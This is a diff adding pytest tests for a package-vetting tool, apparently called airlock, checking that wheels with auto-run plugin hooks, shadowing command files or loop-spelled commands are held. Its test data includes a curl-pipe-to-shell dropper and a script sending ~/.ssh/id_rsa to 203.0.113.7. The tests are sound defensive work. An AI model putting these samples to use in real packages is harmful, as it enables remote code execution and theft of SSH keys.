@@ -1,0 +1,118 @@
+"""Payloads that run with no import of the package written anywhere (ADR 0063): the hooks
+of a plugin a host program loads by itself (pytest, setuptools), a wheel's command files,
+and a command a loop over a written-out list spells. Each sample is inert (a command
+``id``, a host 203.0.113.7, never run) and each was allowed before."""
+
+from __future__ import annotations
+
+import pytest
+
+from airlock.domain.requests import Outcome
+from airlock.imports.packages.analysis import scan_python
+from airlock.imports.packages.rules import PackageFinding, Severity
+from airlock.imports.packages.vet import vet
+from scripts.make_test_packages import wheel
+
+RUN = "os.system('id')"
+INFO = "evpkg-1.0.dist-info"
+
+
+def _vet_wheel(files: dict[str, str | bytes]) -> Outcome:
+    return vet("evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", files)).verdict
+
+
+def _worst(findings: list[PackageFinding]) -> Severity:
+    return max((f.severity for f in findings), default=Severity.LOW)
+
+
+PLUGINS = {
+    # pytest imports every pytest11 plugin and calls its hooks on each run.
+    "pytest-hook": (
+        "[pytest11]\nev = evpkg.plug\n",
+        f"import os\n\n\ndef pytest_configure(config):\n    {RUN}\n",
+    ),
+    # setuptools calls these in every build in the environment.
+    "setuptools-finalize": (
+        "[setuptools.finalize_distribution_options]\nev = evpkg.plug:finalize\n",
+        f"import os\n\n\ndef finalize(dist):\n    {RUN}\n",
+    ),
+    "egg-info-writer": (
+        "[egg_info.writers]\nev.txt = evpkg.plug:write\n",
+        f"import os\n\n\ndef write(cmd, basename, filename):\n    {RUN}\n",
+    ),
+}
+
+
+@pytest.mark.parametrize("key", sorted(PLUGINS))
+def test_a_plugin_hook_a_host_calls_by_itself_holds(key: str) -> None:
+    entry_points, module = PLUGINS[key]
+    files = {
+        "evpkg/__init__.py": "x = 1\n",
+        "evpkg/plug.py": module,
+        f"{INFO}/entry_points.txt": entry_points,
+    }
+    assert _vet_wheel(files) is not Outcome.ALLOW
+
+
+def test_a_console_script_and_a_plugin_function_no_hook_names_stay_allowed() -> None:
+    """A person runs a console script; pytest calls only ``pytest_*`` functions."""
+    files = {
+        "evpkg/__init__.py": "x = 1\n",
+        "evpkg/cli.py": f"import os\n\n\ndef main():\n    {RUN}\n",
+        "evpkg/plug.py": f"import os\n\n\ndef helper():\n    {RUN}\n",
+        f"{INFO}/entry_points.txt": (
+            "[console_scripts]\nevpkg = evpkg.cli:main\n[pytest11]\nev = evpkg.plug\n"
+        ),
+    }
+    assert _vet_wheel(files) is Outcome.ALLOW
+
+
+def test_a_plugin_of_a_group_no_host_loads_on_its_own_stays_allowed() -> None:
+    files = {
+        "evpkg/__init__.py": "x = 1\n",
+        "evpkg/plug.py": f"import os\n\n\ndef extract(f):\n    {RUN}\n",
+        f"{INFO}/entry_points.txt": "[babel.extractors]\nev = evpkg.plug:extract\n",
+    }
+    assert _vet_wheel(files) is Outcome.ALLOW
+
+
+COMMAND_FILES = {
+    # Installed on the PATH as ``pip``: typing pip runs it.
+    "shadows-pip": ("pip", "#!python\nimport os\nos.system('id')\n"),
+    "shell-dropper": ("evtool", "#!/bin/sh\ncurl http://203.0.113.7/x | sh\n"),
+    "python-exfiltration": (
+        "evtool",
+        "#!python\nimport os, urllib.request\nurllib.request.urlopen('http://203.0.113.7/', "
+        "data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
+    ),
+}
+
+
+@pytest.mark.parametrize("key", sorted(COMMAND_FILES))
+def test_a_wheels_command_file_is_read(key: str) -> None:
+    name, text = COMMAND_FILES[key]
+    files = {"evpkg/__init__.py": "x = 1\n", f"evpkg-1.0.data/scripts/{name}": text}
+    assert _vet_wheel(files) is not Outcome.ALLOW
+
+
+def test_a_command_file_that_runs_a_tool_when_a_person_runs_it_stays_allowed() -> None:
+    text = "#!python\nimport subprocess, sys\nsubprocess.call(['evtool-real', *sys.argv[1:]])\n"
+    files = {"evpkg/__init__.py": "x = 1\n", "evpkg-1.0.data/scripts/evtool": text}
+    assert _vet_wheel(files) is Outcome.ALLOW
+
+
+LOOPS = {
+    "comprehension": "import os\n[os.system(c) for c in ['id']]\n",
+    "for": "import os\nfor c in ['id']:\n    os.system(c)\n",
+    "generator": "import os\nlist(os.system(c) for c in ('id',))\n",
+}
+
+
+@pytest.mark.parametrize("key", sorted(LOOPS))
+def test_a_command_a_loop_over_a_written_out_list_spells_holds(key: str) -> None:
+    assert _worst(scan_python("evpkg/__init__.py", LOOPS[key])) >= Severity.HIGH
+
+
+def test_a_loop_over_build_tools_stays_below_a_hold() -> None:
+    source = "import os\nfor c in ['make', 'make install']:\n    os.system(c)\n"
+    assert _worst(scan_python("setup.py", source, install_time=True)) < Severity.HIGH
